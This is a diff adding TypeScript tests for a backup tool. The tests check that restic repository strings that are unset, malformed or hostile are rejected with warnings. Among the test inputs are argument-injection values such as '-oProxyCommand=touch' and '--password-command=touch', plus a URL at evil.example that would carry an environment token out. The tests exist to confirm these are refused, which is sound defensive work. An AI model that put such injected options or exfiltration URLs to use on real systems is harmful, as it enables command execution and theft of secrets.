@@ -1,7 +1,7 @@
 import { Path } from "@effect/platform"
 import { NodeContext } from "@effect/platform-node"
 import { describe, expect, it } from "@effect/vitest"
-import { Effect, Layer } from "effect"
+import { ConfigProvider, Effect, Layer } from "effect"
 import { createHash } from "node:crypto"
 import { mkdirSync, readdirSync, readFileSync } from "node:fs"
 import { join } from "node:path"
@@ -211,4 +211,23 @@ describe("copies of backups", () => {
       const production = { server: "main", remotePath: "~/live", backups }
       expect(yield* find("~/live", { environments: { production } })).toEqual(copies)
     }))
+
+  const repositories: ReadonlyArray<readonly [written: string, reason: string]> = [
+    [
+      "${env:REPOSITORY}",
+      "restic: the environment variable REPOSITORY of this service is not set, which repository names"
+    ],
+    ["rest:http://evil.example/${env:TOKEN}", "restic: repository takes ${env:NAME} only as a whole"],
+    ["sftp:-oProxyCommand=touch:/x", "restic: repository must not begin with a hyphen"],
+    ["sftp://-oProxyCommand=touch/x", "restic: repository must not begin with a hyphen"],
+    ["--password-command=touch", "restic: repository must not begin with a hyphen"],
+    ["/srv/repository", "restic: Cannot run restic: it is not installed"]
+  ]
+  it.effect.each(repositories)("are not kept in the repository %s", ([repository, reason]) =>
+    Effect.gen(function*() {
+      const { warnings } = yield* within("/nowhere", {})(
+        readCopies(stack, { backups: [] }, [{ to: "restic", repository }])
+      )
+      expect(warnings).toEqual([`Its copies could not be read: ${reason}`])
+    }).pipe(Effect.withConfigProvider(ConfigProvider.fromMap(new Map([["TOKEN", "hunter2"]])))))
 })
